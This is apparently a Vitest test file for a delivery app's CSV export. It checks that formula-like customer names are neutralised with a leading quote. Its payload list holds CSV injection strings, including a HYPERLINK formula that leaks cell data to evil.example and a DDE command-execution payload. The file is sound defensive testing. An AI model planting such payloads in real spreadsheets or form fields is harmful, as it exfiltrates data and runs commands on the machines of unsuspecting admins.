import { afterEach, describe, expect, it, vi } from 'vitest';
import type { DeliveriesRequest } from '../../../src/api/types';
import type { MockDelivery } from '../../../src/mocks/index';
import {
  catchDownloads,
  choose,
  dataset,
  expectStatus,
  matchingCodes,
  readCsv,
  renderExportMenu,
  serveReference,
} from './exportHarness';

afterEach(() => {
  vi.restoreAllMocks();
});

/** What an attacker types into a customer name, hoping an admin exports it. */
const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** The dataset with a payload as the customer of every 300th delivery. */
const poisoned: MockDelivery[] = dataset.map((delivery, index) =>
  index % 300 === 0
    ? { ...delivery, customerBusinessPartnerName: payloads[(index / 300) % payloads.length]! }
    : delivery,
);

const everything: DeliveriesRequest = {
  pageNumber: 1,
  pageSize: 25,
  quickSearch: '',
  orderBy: { key: 'code', order: 'asc' },
};

describe('formula cells in an export', () => {
  it('are neutralised with a leading quote; no cell of the file starts a formula', async () => {
    serveReference(poisoned);
    const files = catchDownloads();
    const { user } = renderExportMenu({ request: everything });
    await choose(user, 'Export all matching (CSV)');
    await expectStatus('Exported 3,000 deliveries.');

    const [, ...records] = await readCsv(files[0]!);
    expect(records.map((record) => record[0])).toEqual(matchingCodes(everything, poisoned));
    const customers = records.map((record) => record[4]!);
    const neutralised = customers.filter((name) => name.startsWith("'"));
    expect(neutralised.sort()).toEqual(
      poisoned
        .filter((delivery) => payloads.includes(delivery.customerBusinessPartnerName))
        .map((delivery) => `'${delivery.customerBusinessPartnerName}`)
        .sort(),
    );
    expect(new Set(neutralised).size).toBe(payloads.length);
    const risky = records.flat().filter((field) => /^[=+\-@\t\r]/.test(field));
    expect(risky).toEqual([]);
  });
});
